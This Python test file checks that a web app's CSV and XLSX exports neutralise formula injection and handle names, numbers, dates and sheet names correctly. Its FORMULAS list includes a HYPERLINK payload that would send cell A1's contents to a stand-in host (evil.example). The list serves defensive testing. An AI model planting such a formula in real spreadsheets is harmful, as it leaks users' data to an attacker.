"""Tables as CSV and XLSX."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from app.web.spreadsheets import Table, neutral, write_csv, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
]
NAMES = ["Ada", "O'Neil, Shaquille", 'Quote "Q"', "Zoë Ångström", "王小明", "a\nb", "3-1", "x=1"]
NOON = dt.datetime(2026, 3, 2, 12, 30, 15, 250, tzinfo=dt.timezone(dt.timedelta(hours=2)))


def table(*rows, title="Students", columns=("Name", "Score")):
    return Table("students", title, columns, tuple(rows))


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content):
    book = load_workbook(io.BytesIO(content))
    return {
        sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book
    }


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_is_text_in_both(text):
    one = table((text, 1.0))

    assert read_csv(write_csv(one))[1][0] == f"'{text}"
    # XML ends lines with \n alone.
    assert read_xlsx(write_xlsx([one]))["Students"][1][0] == f"'{text}".replace("\r", "\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_holds_no_formula_in_headings_cells_or_names_of_sheets(text):
    content = write_xlsx([table((text, text), title=text.strip(), columns=(text, "Score"))])

    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert 't="f"' not in sheet


@pytest.mark.parametrize("name", NAMES)
def test_ordinary_names_come_through_as_they_are(name):
    one = table((name, 0.5))

    assert neutral(name) == name
    assert read_csv(write_csv(one))[1][0] == name
    assert read_xlsx(write_xlsx([one]))["Students"][1][0] == name


def test_numbers_stay_numbers_also_negative_ones_and_to_the_last_digit():
    one = table(("Ada", -1 / 3), ("Blaise", None), ("Carl", 2))

    rows = read_csv(write_csv(one))
    assert float(rows[1][1]) == -1 / 3
    assert [row[1] for row in rows[2:]] == ["", "2"]
    assert [row[1] for row in read_xlsx(write_xlsx([one]))["Students"]] == [
        "Score",
        -1 / 3,
        None,
        2,
    ]


def test_instants_are_in_utc():
    one = table(("Ada", NOON))

    assert read_csv(write_csv(one))[1][1] == "2026-03-02T10:30:15Z"
    expected = dt.datetime(2026, 3, 2, 10, 30, 15)  # noqa: DTZ001 - as a workbook gives it
    assert read_xlsx(write_xlsx([one]))["Students"][1][1] == expected


def test_lines_end_as_the_standard_says():
    assert write_csv(table(("Ada", 1))) == b"\xef\xbb\xbfName,Score\r\nAda,1\r\n"


def test_characters_that_a_workbook_cannot_hold_are_replaced():
    one = table(("a\x00b\x1fc\ud800", 1))

    assert read_xlsx(write_xlsx([one]))["Students"][1][0] == "a\ufffdb\ufffdc\ufffd"
    assert read_csv(write_csv(one))[1][0] == "a\ufffdb\ufffdc\ufffd"


def test_each_sheet_has_a_name_of_its_own_that_excel_takes():
    long = "What does backward() leave in x.grad, and why?"
    content = write_xlsx([table(title=title) for title in (long, long.upper(), "a/b [c]", "'*'")])

    names = list(read_xlsx(content))
    assert len({name.lower() for name in names}) == 4
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\'") for name in names)


def test_many_columns_are_lettered_as_excel_does():
    columns = tuple(f"Item {number}" for number in range(1, 61))
    content = write_xlsx([table(columns=columns)])

    widths = load_workbook(io.BytesIO(content))["Students"].column_dimensions
    assert {"A", "Z", "AA", "BH"} <= set(widths)
